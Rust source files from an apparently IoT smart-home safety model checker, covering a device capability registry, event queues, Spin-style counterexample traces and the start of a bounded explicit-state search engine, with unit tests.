    /// All specifications.
    pub fn specs(&self) -> &[DeviceSpec] {
        &self.specs
    }

    /// Looks up the spec for a capability name (as written in `preferences`,
    /// without the `capability.` prefix).  Unknown capabilities fall back to a
    /// plain switch model so translation never blocks on an exotic device.
    pub fn spec(&self, capability: &str) -> Option<&DeviceSpec> {
        self.by_capability.get(capability).map(|i| &self.specs[*i])
    }

    /// Like [`CapabilityRegistry::spec`] but falls back to the `switch` spec.
    pub fn spec_or_switch(&self, capability: &str) -> &DeviceSpec {
        self.spec(capability)
            .unwrap_or_else(|| self.spec("switch").expect("switch spec is built in"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registry_has_at_least_thirty_device_types() {
        assert!(registry().len() >= 30, "paper supports 30 device types, got {}", registry().len());
    }

    #[test]
    fn capabilities_are_unique() {
        let specs = builtin_specs();
        let mut names: Vec<&str> = specs.iter().map(|s| s.capability).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), specs.len());
    }

    #[test]
    fn every_command_effect_targets_a_real_attribute_value() {
        for spec in registry().specs() {
            for command in &spec.commands {
                for effect in &command.effects {
                    match effect {
                        CommandEffect::Set { attribute, value } => {
                            let attr = spec.attribute(attribute).unwrap_or_else(|| {
                                panic!(
                                    "{}.{} targets unknown attribute",
                                    spec.capability, command.name
                                )
                            });
                            assert!(
                                attr.domain.index_of(value).is_some(),
                                "{}.{}: value {value} not in domain of {attribute}",
                                spec.capability,
                                command.name
                            );
                        }
                        CommandEffect::SetFromArg { attribute } => {
                            assert!(spec.attribute(attribute).is_some());
                        }
                    }
                }
            }
        }
    }

    #[test]
    fn defaults_are_in_domain() {
        for spec in registry().specs() {
            for attr in &spec.attributes {
                assert!(
                    attr.default_index < attr.domain.len(),
                    "{}.{}",
                    spec.capability,
                    attr.name
                );
            }
        }
    }

    #[test]
    fn sensors_have_environment_events_and_actuators_have_commands() {
        for spec in registry().specs() {
            match spec.kind {
                DeviceKind::Sensor => {
                    assert!(
                        !spec.environment_events().is_empty(),
                        "{} has no events",
                        spec.capability
                    )
                }
                DeviceKind::Actuator => {
                    assert!(!spec.commands.is_empty(), "{} has no commands", spec.capability)
                }
                DeviceKind::Hybrid => {
                    assert!(!spec.commands.is_empty());
                    assert!(!spec.environment_events().is_empty());
                }
            }
        }
    }

    #[test]
    fn lookup_and_fallback() {
        let reg = registry();
        assert_eq!(reg.spec("lock").unwrap().display, "Door Lock");
        assert!(reg.spec("nonexistentCapability").is_none());
        assert_eq!(reg.spec_or_switch("nonexistentCapability").capability, "switch");
    }

    #[test]
    fn domain_index_round_trip() {
        let spec = registry().spec("temperatureMeasurement").unwrap();
        let temp = spec.attribute("temperature").unwrap();
        let idx = temp.domain.index_of("75").unwrap();
        assert_eq!(temp.domain.value_at(idx).unwrap(), "75");
        assert_eq!(temp.domain.numeric_at(idx), Some(75));

        let lock = registry().spec("lock").unwrap().attribute("lock").unwrap();
        assert_eq!(lock.domain.index_of("locked"), Some(0));
        assert_eq!(lock.domain.numeric_at(0), None);
    }

    #[test]
    fn primary_attribute_is_first() {
        assert_eq!(registry().spec("alarm").unwrap().primary_attribute().name, "alarm");
    }
}
