//! Events and event queues.
//!
//! Figure 2 of the paper shows the chain of events in an IoT system: sensors
//! convert physical events into cyber events; apps subscribed to those events
//! command actuators; actuator state changes generate further cyber events.
//! [`Event`] is one cyber event; [`EventQueue`] is the per-system pending
//! queue drained by Algorithm 1's `dispatch_event` loop.

use crate::device::DeviceId;
use iotsan_ir::Value;
use std::collections::VecDeque;
use std::fmt;

/// Where an event originated.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum EventSource {
    /// A device (sensor reading or actuator state-change notification).
    Device(DeviceId),
    /// The location object (mode change, sunrise, sunset).
    Location,
    /// The companion app (app-touch events).
    App,
    /// The scheduler (timer fired).
    Timer,
}

impl fmt::Display for EventSource {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            EventSource::Device(id) => write!(f, "{id}"),
            EventSource::Location => write!(f, "location"),
            EventSource::App => write!(f, "app"),
            EventSource::Timer => write!(f, "timer"),
        }
    }
}

/// A cyber event delivered to subscribed apps.
#[derive(Debug, Clone, PartialEq)]
pub struct Event {
    /// Who generated it.
    pub source: EventSource,
    /// Attribute name (`motion`, `contact`, `mode`, `touch`, `time`).
    pub attribute: String,
    /// The new value.
    pub value: Value,
    /// Whether this event was produced by the physical environment (a real
    /// sensor reading) as opposed to synthesized by an app via `sendEvent`.
    pub physical: bool,
}

impl Event {
    /// A physical event from a device.
    pub fn device(id: DeviceId, attribute: impl Into<String>, value: impl Into<Value>) -> Self {
        Event {
            source: EventSource::Device(id),
            attribute: attribute.into(),
            value: value.into(),
            physical: true,
        }
    }

    /// A state-change notification from an actuator (cyber, not physical).
    pub fn actuator(id: DeviceId, attribute: impl Into<String>, value: impl Into<Value>) -> Self {
        Event {
            source: EventSource::Device(id),
            attribute: attribute.into(),
            value: value.into(),
            physical: false,
        }
    }

    /// A location-mode change event.
    pub fn mode_change(mode: impl Into<String>) -> Self {
        Event {
            source: EventSource::Location,
            attribute: "mode".into(),
            value: Value::Str(mode.into()),
            physical: false,
        }
    }

    /// A location environment event such as sunrise or sunset.
    pub fn location(name: impl Into<String>) -> Self {
        let name = name.into();
        Event {
            source: EventSource::Location,
            attribute: name.clone(),
            value: Value::Str(name),
            physical: true,
        }
    }

    /// An app-touch event.
    pub fn app_touch() -> Self {
        Event {
            source: EventSource::App,
            attribute: "touch".into(),
            value: Value::Str("touched".into()),
            physical: false,
        }
    }

    /// A timer-fired event for the handler scheduled by the named app.
    pub fn timer(handler: impl Into<String>) -> Self {
        Event {
            source: EventSource::Timer,
            attribute: "time".into(),
            value: Value::Str(handler.into()),
            physical: false,
        }
    }

    /// Numeric view of the value (`evt.doubleValue`).
    pub fn numeric_value(&self) -> Option<f64> {
        self.value.as_number()
    }
}

impl fmt::Display for Event {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}/{}={}", self.source, self.attribute, self.value)
    }
}

/// A FIFO of pending events (Algorithm 1 keeps dispatching until it drains).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct EventQueue {
    queue: VecDeque<Event>,
    /// Total number of events ever enqueued (used to bound cascades).
    pushed: usize,
}

impl EventQueue {
    /// Creates an empty queue.
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds an event to the back of the queue.
    pub fn push(&mut self, event: Event) {
        self.pushed += 1;
        self.queue.push_back(event);
    }

    /// Removes and returns the oldest pending event.
    pub fn pop(&mut self) -> Option<Event> {
        self.queue.pop_front()
    }

    /// Number of currently pending events.
    pub fn len(&self) -> usize {
        self.queue.len()
    }

    /// True when no events are pending.
    pub fn is_empty(&self) -> bool {
        self.queue.is_empty()
    }

    /// Total number of events enqueued over the queue's lifetime.
    pub fn total_pushed(&self) -> usize {
        self.pushed
    }

    /// Iterates over pending events without consuming them.
    pub fn iter(&self) -> impl Iterator<Item = &Event> {
        self.queue.iter()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn constructors_set_sources() {
        let e = Event::device(DeviceId(1), "motion", "active");
        assert_eq!(e.source, EventSource::Device(DeviceId(1)));
        assert!(e.physical);

        let e = Event::actuator(DeviceId(2), "lock", "unlocked");
        assert!(!e.physical);

        assert_eq!(Event::mode_change("Away").attribute, "mode");
        assert_eq!(Event::app_touch().source, EventSource::App);
        assert_eq!(Event::timer("checkMotion").source, EventSource::Timer);
        assert_eq!(Event::location("sunset").attribute, "sunset");
    }

    #[test]
    fn numeric_value_parses_numbers() {
        let e = Event::device(DeviceId(0), "temperature", Value::Int(75));
        assert_eq!(e.numeric_value(), Some(75.0));
        let e = Event::device(DeviceId(0), "motion", "active");
        assert_eq!(e.numeric_value(), None);
    }

    #[test]
    fn queue_is_fifo_and_counts_pushes() {
        let mut q = EventQueue::new();
        assert!(q.is_empty());
        q.push(Event::app_touch());
        q.push(Event::mode_change("Home"));
        assert_eq!(q.len(), 2);
        assert_eq!(q.total_pushed(), 2);
        assert_eq!(q.pop().unwrap().attribute, "touch");
        assert_eq!(q.pop().unwrap().attribute, "mode");
        assert!(q.pop().is_none());
        assert_eq!(q.total_pushed(), 2);
    }

    #[test]
    fn display_is_compact() {
        let e = Event::device(DeviceId(3), "contact", "open");
        assert_eq!(e.to_string(), "dev3/contact=open");
    }
}
