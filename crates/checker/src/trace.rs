//! Counterexample traces.
//!
//! When the checker finds a violation it reconstructs the sequence of external
//! events (and the handler activity each of them triggered) from the initial
//! state to the unsafe state — the counter-example that §2.3 lists as one of
//! the main reasons for adopting model checking.  [`Trace::render`] prints the
//! trace in a format modelled on Spin's violation logs (Figure 7).

use crate::transition::Violation;
use std::fmt;

/// One step of a counterexample: the external action taken plus the log of
/// everything the model did while dispatching it.
#[derive(Debug, Clone, PartialEq)]
pub struct TraceStep {
    /// Rendered action (e.g. `alicePresence/presence=not present [ok]`).
    pub action: String,
    /// Model log lines for this step (handler invocations, commands, state
    /// updates), in execution order.
    pub log: Vec<String>,
}

/// A full counterexample from the initial state to the violation.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Trace {
    /// Steps in execution order.
    pub steps: Vec<TraceStep>,
}

impl Trace {
    /// Creates an empty trace.
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends a step.
    pub fn push(&mut self, action: String, log: Vec<String>) {
        self.steps.push(TraceStep { action, log });
    }

    /// Number of external events in the trace.
    pub fn len(&self) -> usize {
        self.steps.len()
    }

    /// True when the trace is empty.
    pub fn is_empty(&self) -> bool {
        self.steps.is_empty()
    }

    /// The external events only (one line per step).
    pub fn events(&self) -> Vec<&str> {
        self.steps.iter().map(|s| s.action.as_str()).collect()
    }

    /// Renders the trace in a Spin-like violation-log format: every model log
    /// line is prefixed with a pseudo file name, line number and state number,
    /// mirroring Figure 7 of the paper, and the final line states the failed
    /// assertion.
    pub fn render(&self, violation: &Violation) -> String {
        let mut out = String::new();
        let mut state_number = 1usize;
        for (i, step) in self.steps.iter().enumerate() {
            out.push_str(&format!(
                "SmartThings0.prom:{line} (state {state}) [generatedEvent = {action}]\n",
                line = 2600 + i,
                state = state_number,
                action = step.action
            ));
            state_number += 1;
            for entry in &step.log {
                out.push_str(&format!(
                    "SmartThings0.prom:{line} (state {state}) [{entry}]\n",
                    line = 2600 + i,
                    state = state_number,
                    entry = entry
                ));
                state_number += 1;
            }
        }
        out.push_str("spin: _spin_nvr.tmp:3, Error: assertion violated\n");
        out.push_str(&format!(
            "spin: text of failed assertion: assert(!({}))\n",
            violation.description
        ));
        out
    }
}

impl fmt::Display for Trace {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (i, step) in self.steps.iter().enumerate() {
            writeln!(f, "{:>3}. {}", i + 1, step.action)?;
            for line in &step.log {
                writeln!(f, "       {line}")?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Trace {
        let mut t = Trace::new();
        t.push(
            "alicePresence/presence=not present [ok]".into(),
            vec![
                "Auto Mode Change.presenceHandler: setLocationMode(\"Away\")".into(),
                "location.mode = Away".into(),
            ],
        );
        t.push(
            "location/mode=Away".into(),
            vec![
                "Unlock Door.changedLocationMode: doorLock.unlock()".into(),
                "doorLock.lock = unlocked".into(),
            ],
        );
        t
    }

    #[test]
    fn push_and_events() {
        let t = sample();
        assert_eq!(t.len(), 2);
        assert!(!t.is_empty());
        assert_eq!(t.events()[0], "alicePresence/presence=not present [ok]");
    }

    #[test]
    fn render_is_spin_like() {
        let t = sample();
        let v =
            Violation { property: 6, description: "!anyone_home && main_door == unlocked".into() };
        let log = t.render(&v);
        assert!(log.contains("SmartThings0.prom:"));
        assert!(log.contains("(state 1)"));
        assert!(log.contains("assertion violated"));
        assert!(log.contains("assert(!(!anyone_home && main_door == unlocked))"));
        // Every step and log line appears.
        assert!(log.contains("generatedEvent = alicePresence/presence=not present [ok]"));
        assert!(log.contains("doorLock.lock = unlocked"));
    }

    #[test]
    fn display_numbers_steps() {
        let rendered = sample().to_string();
        assert!(rendered.contains("  1. alicePresence"));
        assert!(rendered.contains("  2. location/mode=Away"));
    }
}
