//! Counterexample traces.
//!
//! When the checker finds a violation it reconstructs the sequence of external
//! events (and the handler activity each of them triggered) from the initial
//! state to the unsafe state — the counter-example that §2.3 lists as one of
//! the main reasons for adopting model checking.  [`Trace::render`] prints the
//! trace in a format modelled on Spin's violation logs (Figure 7).
//!
//! Traces are *materialized* structures: the search engines never build them
//! on the hot path.  Exploration records only parent-pointer `(parent,
//! action)` arena nodes (see [`crate::search`]); when a violation is kept,
//! the action sequence is replayed with logging enabled and each structured
//! event is rendered into a [`LogLine`] — text plus the owning app, so the
//! Output Analyzer ranks suspects from structured provenance instead of
//! re-parsing formatted strings.

use crate::transition::Violation;
use std::fmt;

/// One rendered log line of a counterexample step, with structured
/// provenance: the app whose handler produced the line, when one did.
#[derive(Debug, Clone, PartialEq)]
pub struct LogLine {
    /// The display name of the app whose handler activity produced this line
    /// (`None` for environment/device/system lines).
    pub owner: Option<String>,
    /// The rendered text (what Spin-style logs print).
    pub text: String,
}

impl LogLine {
    /// A line with no owning app.
    pub fn new(text: impl Into<String>) -> Self {
        LogLine { owner: None, text: text.into() }
    }

    /// A line owned by `app`'s handler activity.
    pub fn owned(app: impl Into<String>, text: impl Into<String>) -> Self {
        LogLine { owner: Some(app.into()), text: text.into() }
    }
}

impl fmt::Display for LogLine {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

/// One step of a counterexample: the external action taken plus the log of
/// everything the model did while dispatching it.
#[derive(Debug, Clone, PartialEq)]
pub struct TraceStep {
    /// Rendered action (e.g. `alicePresence/presence=not present [ok]`).
    pub action: String,
    /// Model log lines for this step (handler invocations, commands, state
    /// updates), in execution order.
    pub log: Vec<LogLine>,
}

/// A full counterexample from the initial state to the violation.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Trace {
    /// Steps in execution order.
    pub steps: Vec<TraceStep>,
}

impl Trace {
    /// Creates an empty trace.
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends a step.
    pub fn push(&mut self, action: String, log: Vec<LogLine>) {
        self.steps.push(TraceStep { action, log });
    }

    /// Number of external events in the trace.
    pub fn len(&self) -> usize {
        self.steps.len()
    }

    /// True when the trace is empty.
    pub fn is_empty(&self) -> bool {
        self.steps.is_empty()
    }

    /// The external events only (one line per step).
    pub fn events(&self) -> Vec<&str> {
        self.steps.iter().map(|s| s.action.as_str()).collect()
    }

    /// Approximate heap footprint of this trace in bytes (step strings plus
    /// log lines); materialized traces are the only place the checker still
    /// pays for strings, and [`crate::search::SearchStats::peak_trace_bytes`]
    /// reports the bookkeeping high-water mark.
    pub fn memory_bytes(&self) -> usize {
        self.steps
            .iter()
            .map(|s| {
                std::mem::size_of::<TraceStep>()
                    + s.action.len()
                    + s.log
                        .iter()
                        .map(|l| {
                            std::mem::size_of::<LogLine>()
                                + l.text.len()
                                + l.owner.as_ref().map_or(0, String::len)
                        })
                        .sum::<usize>()
            })
            .sum()
    }

    /// Renders the trace in a Spin-like violation-log format: every model log
    /// line is prefixed with a pseudo file name, line number and state number,
    /// mirroring Figure 7 of the paper, and the final line states the failed
    /// assertion.
    pub fn render(&self, violation: &Violation) -> String {
        let mut out = String::new();
        let mut state_number = 1usize;
        for (i, step) in self.steps.iter().enumerate() {
            out.push_str(&format!(
                "SmartThings0.prom:{line} (state {state}) [generatedEvent = {action}]\n",
                line = 2600 + i,
                state = state_number,
                action = step.action
            ));
            state_number += 1;
            for entry in &step.log {
                out.push_str(&format!(
                    "SmartThings0.prom:{line} (state {state}) [{entry}]\n",
                    line = 2600 + i,
                    state = state_number,
                    entry = entry
                ));
                state_number += 1;
            }
        }
        out.push_str("spin: _spin_nvr.tmp:3, Error: assertion violated\n");
        out.push_str(&format!(
            "spin: text of failed assertion: assert(!({}))\n",
            violation.description
        ));
        out
    }
}

impl fmt::Display for Trace {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (i, step) in self.steps.iter().enumerate() {
            writeln!(f, "{:>3}. {}", i + 1, step.action)?;
            for line in &step.log {
                writeln!(f, "       {line}")?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Trace {
        let mut t = Trace::new();
        t.push(
            "alicePresence/presence=not present [ok]".into(),
            vec![
                LogLine::owned(
                    "Auto Mode Change",
                    "Auto Mode Change.presenceHandler: setLocationMode(\"Away\")",
                ),
                LogLine::new("location.mode = Away"),
            ],
        );
        t.push(
            "location/mode=Away".into(),
            vec![
                LogLine::owned("Unlock Door", "Unlock Door.changedLocationMode: doorLock.unlock()"),
                LogLine::new("doorLock.lock = unlocked"),
            ],
        );
        t
    }

    #[test]
    fn push_and_events() {
        let t = sample();
        assert_eq!(t.len(), 2);
        assert!(!t.is_empty());
        assert_eq!(t.events()[0], "alicePresence/presence=not present [ok]");
        assert!(t.memory_bytes() > 0);
    }

    #[test]
    fn log_lines_carry_provenance() {
        let t = sample();
        assert_eq!(t.steps[0].log[0].owner.as_deref(), Some("Auto Mode Change"));
        assert_eq!(t.steps[0].log[1].owner, None);
        assert_eq!(LogLine::new("x").to_string(), "x");
    }

    #[test]
    fn render_is_spin_like() {
        let t = sample();
        let v =
            Violation { property: 6, description: "!anyone_home && main_door == unlocked".into() };
        let log = t.render(&v);
        assert!(log.contains("SmartThings0.prom:"));
        assert!(log.contains("(state 1)"));
        assert!(log.contains("assertion violated"));
        assert!(log.contains("assert(!(!anyone_home && main_door == unlocked))"));
        // Every step and log line appears.
        assert!(log.contains("generatedEvent = alicePresence/presence=not present [ok]"));
        assert!(log.contains("doorLock.lock = unlocked"));
    }

    #[test]
    fn display_numbers_steps() {
        let rendered = sample().to_string();
        assert!(rendered.contains("  1. alicePresence"));
        assert!(rendered.contains("  2. location/mode=Away"));
    }
}
