//! The explicit-state search engine.
//!
//! This is the Spin substitute (see DESIGN.md §4): a bounded, explicit-state
//! safety checker.  The model checker "enumerates all possible permutations of
//! the input physical events up to a maximum number of events per user's
//! configuration to exhaustively verify the system" (Algorithm 1) — here that
//! bound is [`SearchConfig::max_depth`], the maximum number of external events
//! along any path.  Visited states are stored exactly, hash-compacted or in a
//! BITSTATE bit array ([`crate::store`]).
//!
//! # Allocation discipline
//!
//! The exploration loop performs no per-transition heap allocation in steady
//! state:
//!
//! * enabled actions are written into one reused buffer per expansion;
//! * counterexample bookkeeping is a parent-pointer `TraceArena` — one
//!   `(parent, action)` node per *admitted* state instead of an O(depth)
//!   trace clone per transition (which made path cost quadratic);
//! * effect logs are deferred: the search runs with a disabled
//!   [`StepLog`], so the model never formats or even constructs log events on
//!   the hot path;
//! * full [`Trace`]s (action strings plus rendered log lines) exist only for
//!   the ≤1-per-property violations that are actually reported — they are
//!   *materialized* by replaying the arena's action path from the initial
//!   state with logging enabled.

use crate::store::StoreKind;
use crate::trace::Trace;
use crate::transition::{StepLog, TransitionSystem, Violation};
use iotsan_telemetry::flight::{self, EventCode, Level};
use iotsan_telemetry::METRICS;
use std::collections::{BTreeSet, VecDeque};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// A shared cancellation handle for an in-flight search.
///
/// A long-running verification job (e.g. one queued in `iotsan-daemon`) can
/// hand the engines a token via [`SearchConfig::cancel`]; calling
/// [`CancelToken::cancel`] from any thread stops the search at its next
/// per-expansion cap check, and the report comes back with
/// [`SearchStats::truncated`] set (no count-cap flag — like a wall-clock
/// budget firing).  Cloning the token clones the *handle*: all clones observe
/// the same flag.
///
/// ```
/// use iotsan_checker::CancelToken;
///
/// let token = CancelToken::new();
/// let observer = token.clone();
/// assert!(!observer.is_cancelled());
/// token.cancel();
/// assert!(observer.is_cancelled());
/// ```
#[derive(Debug, Clone, Default)]
pub struct CancelToken(Arc<AtomicBool>);

impl CancelToken {
    /// Creates a token in the not-cancelled state.
    pub fn new() -> Self {
        Self::default()
    }

    /// Requests cancellation; every search configured with (a clone of) this
    /// token stops at its next cap check.  Idempotent.
    pub fn cancel(&self) {
        self.0.store(true, Ordering::Relaxed);
    }

    /// True once [`CancelToken::cancel`] has been called on any clone.
    pub fn is_cancelled(&self) -> bool {
        self.0.load(Ordering::Relaxed)
    }
}

/// Tokens compare by *identity* (shared flag), not by current state: a config
/// carrying a fresh token is not interchangeable with one carrying another.
impl PartialEq for CancelToken {
    fn eq(&self, other: &Self) -> bool {
        Arc::ptr_eq(&self.0, &other.0)
    }
}

/// Search order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum SearchMode {
    /// Depth-first search (Spin's default); finds deep counterexamples fast.
    #[default]
    Dfs,
    /// Breadth-first search; finds shortest counterexamples.
    Bfs,
}

/// Configuration of one verification run.
#[derive(Debug, Clone, PartialEq)]
pub struct SearchConfig {
    /// Maximum number of external events along a path (the paper's
    /// "maximum number of events", Tables 7b and 8 sweep this).
    pub max_depth: usize,
    /// Hard cap on stored states (safety net against state explosion).
    pub max_states: usize,
    /// Hard cap on applied transitions.
    pub max_transitions: usize,
    /// DFS or BFS.  Only honored by the sequential engine; the parallel
    /// engine always explores in work-stealing depth-first order (see
    /// [`crate::parallel::ParallelChecker`]).
    pub mode: SearchMode,
    /// Visited-state storage strategy.
    pub store: StoreKind,
    /// Stop at the first violation instead of collecting one counterexample
    /// per violated property.
    pub stop_at_first: bool,
    /// Wall-clock budget; the search stops (reporting partial results) when
    /// exceeded.
    pub time_limit: Option<Duration>,
    /// Number of search workers.  `0` or `1` selects the sequential engine;
    /// larger values select [`crate::parallel::ParallelChecker`]'s shared
    /// work-queue engine over a sharded visited-state store.
    pub workers: usize,
    /// Number of shards of the concurrent visited-state store (rounded up to
    /// a power of two).  `0` picks a default proportional to `workers`.
    /// Ignored by the sequential engine.
    pub shards: usize,
    /// Property-directed slicing: when set, verification entry points that
    /// know the registered properties (`iotsan::Pipeline`) drop handlers the
    /// static analysis proves irrelevant to them before exploring.  Off by
    /// default; verdicts are preserved exactly (see `iotsan-analysis`).
    pub slice: bool,
    /// Cooperative cancellation: when set, both engines poll the token at
    /// their per-expansion cap check and stop (reporting
    /// [`SearchStats::truncated`]) once it is cancelled.  `None` (the
    /// default) disables the poll entirely.
    pub cancel: Option<CancelToken>,
}

impl Default for SearchConfig {
    fn default() -> Self {
        SearchConfig {
            max_depth: 3,
            max_states: 2_000_000,
            max_transitions: 20_000_000,
            mode: SearchMode::Dfs,
            store: StoreKind::Exact,
            stop_at_first: false,
            time_limit: None,
            workers: 1,
            shards: 0,
            slice: false,
            cancel: None,
        }
    }
}

impl SearchConfig {
    /// A configuration exploring up to `max_depth` external events.
    pub fn with_depth(max_depth: usize) -> Self {
        SearchConfig { max_depth, ..Default::default() }
    }

    /// Switches to BITSTATE storage with default sizing.
    pub fn bitstate(mut self) -> Self {
        self.store = StoreKind::Bitstate { log2_bits: 24, hash_functions: 3 };
        self
    }

    /// Requests a parallel search with the given number of workers.
    pub fn parallel(mut self, workers: usize) -> Self {
        self.workers = workers.max(1);
        self
    }

    /// Enables property-directed slicing (builder style).
    pub fn sliced(mut self) -> Self {
        self.slice = true;
        self
    }

    /// Attaches a cancellation token (builder style); see
    /// [`SearchConfig::cancel`].
    pub fn cancellable(mut self, token: CancelToken) -> Self {
        self.cancel = Some(token);
        self
    }

    /// The effective worker count (at least one).
    pub fn effective_workers(&self) -> usize {
        self.workers.max(1)
    }
}

/// Statistics reported after a search.
///
/// Time accounting is monotonic (a single [`Instant`] anchor is sampled once
/// when the search finishes, including when a cap fires mid-expansion) and
/// all counters saturate instead of wrapping.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct SearchStats {
    /// Number of distinct states stored.
    pub states_stored: usize,
    /// Number of transitions applied.
    pub transitions: usize,
    /// Deepest path (in external events) reached.
    pub max_depth_reached: usize,
    /// Wall-clock time of the search.
    pub elapsed: Duration,
    /// Exploration throughput: distinct states stored per second of
    /// wall-clock search time (the headline number the zero-allocation core
    /// is measured by; `repro parallel --json` and the CI regression guard
    /// consume it).
    pub states_per_sec: f64,
    /// Approximate memory used by the state store.
    pub store_memory_bytes: usize,
    /// High-water mark, in bytes, of counterexample bookkeeping: the
    /// parent-pointer trace arena(s) plus every materialized counterexample.
    /// The arena grows by one pointer-sized node per admitted state; full
    /// traces with strings exist only for reported violations.
    pub peak_trace_bytes: usize,
    /// True when the search stopped because of a resource cap rather than
    /// exhausting the bounded state space.
    pub truncated: bool,
    /// True when [`SearchConfig::max_states`] fired (the state space was not
    /// exhausted; results are a lower bound).
    pub states_capped: bool,
    /// True when [`SearchConfig::max_transitions`] fired.
    pub transitions_capped: bool,
    /// Number of workers that actually explored the state space (1 for the
    /// sequential engine).
    pub workers: usize,
}

/// The resource cap that ended a search early.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum CapHit {
    States,
    Transitions,
    Time,
    Cancelled,
}

impl SearchStats {
    /// Records that `cap` ended the search early.
    fn record_cap(&mut self, cap: CapHit) {
        self.truncated = true;
        match cap {
            CapHit::States => self.states_capped = true,
            CapHit::Transitions => self.transitions_capped = true,
            // Like a wall-clock budget, a cancellation truncates the search
            // without implicating either count cap.
            CapHit::Time | CapHit::Cancelled => {}
        }
    }
}

/// One reported violation with its counterexample.
#[derive(Debug, Clone, PartialEq)]
pub struct FoundViolation {
    /// The violated property.
    pub violation: Violation,
    /// A counterexample trace from the initial state.
    pub trace: Trace,
    /// Number of external events in the counterexample.
    pub depth: usize,
}

/// The result of a verification run.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct SearchReport {
    /// One entry per violated property (first counterexample found).
    pub violations: Vec<FoundViolation>,
    /// Search statistics.
    pub stats: SearchStats,
}

impl SearchReport {
    /// True when at least one property was violated.
    pub fn has_violations(&self) -> bool {
        !self.violations.is_empty()
    }

    /// The set of violated property identifiers.
    pub fn violated_properties(&self) -> BTreeSet<u32> {
        self.violations.iter().map(|v| v.violation.property).collect()
    }

    /// The violation for a specific property, if found.
    pub fn violation_for(&self, property: u32) -> Option<&FoundViolation> {
        self.violations.iter().find(|v| v.violation.property == property)
    }
}

/// Sentinel parent id of root frames (the initial state, empty path).
pub(crate) const NO_PARENT: u32 = u32::MAX;

/// High bit marking an arena parent id as a *prefix* reference (an owned
/// action path imported from another worker's subtree — see
/// [`TraceArena::add_prefix`]).
const PREFIX_FLAG: u32 = 1 << 31;

/// Parent-pointer counterexample bookkeeping.
///
/// The search engines record one `(parent, action)` node per **admitted**
/// state — never a full trace per transition.  A counterexample's action
/// sequence is reconstructed by walking parents from the violating frame to
/// the root, which only happens for the ≤1-per-property violations that are
/// reported.
///
/// The parallel engine keeps one arena per worker.  Frames that migrate
/// between workers through the shared queue carry their action path as an
/// owned prefix; the receiving worker registers it once
/// ([`TraceArena::add_prefix`]) and roots the stolen subtree's nodes at it,
/// so no worker ever dereferences another worker's (concurrently growing)
/// arena and the deterministic merge is unchanged.
#[derive(Debug)]
pub(crate) struct TraceArena<A> {
    nodes: Vec<(u32, A)>,
    prefixes: Vec<Vec<A>>,
}

impl<A: Clone> TraceArena<A> {
    pub(crate) fn new() -> Self {
        TraceArena { nodes: Vec::new(), prefixes: Vec::new() }
    }

    /// Records an admitted state's provenance; returns its node id.
    #[inline]
    pub(crate) fn push(&mut self, parent: u32, action: &A) -> u32 {
        let id = self.nodes.len() as u32;
        assert!(id < PREFIX_FLAG, "trace arena overflow (>2^31 admitted states)");
        self.nodes.push((parent, action.clone()));
        id
    }

    /// Registers an owned action prefix (a stolen frame's path) and returns
    /// the parent id that roots nodes at it.
    pub(crate) fn add_prefix(&mut self, path: Vec<A>) -> u32 {
        if path.is_empty() {
            return NO_PARENT;
        }
        let id = self.prefixes.len() as u32;
        assert!(id < PREFIX_FLAG - 1, "trace arena prefix overflow");
        self.prefixes.push(path);
        PREFIX_FLAG | id
    }

    /// Reconstructs the root-to-`node` action path into `out` (cleared
    /// first).
    pub(crate) fn path(&self, mut node: u32, out: &mut Vec<A>) {
        out.clear();
        let mut prefix = None;
        while node != NO_PARENT {
            if node & PREFIX_FLAG != 0 {
                prefix = Some((node & !PREFIX_FLAG) as usize);
                break;
            }
            let (parent, action) = &self.nodes[node as usize];
            out.push(action.clone());
            node = *parent;
        }
        out.reverse();
        if let Some(index) = prefix {
            out.splice(0..0, self.prefixes[index].iter().cloned());
        }
    }

    /// Approximate heap footprint of the arena in bytes.
    pub(crate) fn memory_bytes(&self) -> usize {
        self.nodes.capacity() * std::mem::size_of::<(u32, A)>()
            + self.prefixes.capacity() * std::mem::size_of::<Vec<A>>()
            + self.prefixes.iter().map(|p| p.capacity() * std::mem::size_of::<A>()).sum::<usize>()
    }
}

/// Materializes the counterexample for an action sequence by replaying it
/// from the initial state with logging enabled — the only place the checker
/// renders action strings and log lines.  `apply` is deterministic, so the
/// replay reproduces exactly the transitions the search took.
pub(crate) fn materialize_trace<T: TransitionSystem>(model: &T, actions: &[T::Action]) -> Trace {
    let mut trace = Trace::new();
    let mut state = model.initial_state();
    let mut scratch = T::Scratch::default();
    let mut log = StepLog::enabled();
    for action in actions {
        log.clear();
        let outcome = model.apply(&state, action, &mut scratch, &mut log);
        let lines = log.events().iter().map(|e| model.render_event(e)).collect();
        trace.push(model.display_action(action), lines);
        state = outcome.state;
    }
    trace
}

/// The explicit-state model checker.
#[derive(Debug, Clone, Default)]
pub struct Checker {
    config: SearchConfig,
}

impl Checker {
    /// Creates a checker with the given configuration.
    pub fn new(config: SearchConfig) -> Self {
        Checker { config }
    }

    /// The configuration in use.
    pub fn config(&self) -> &SearchConfig {
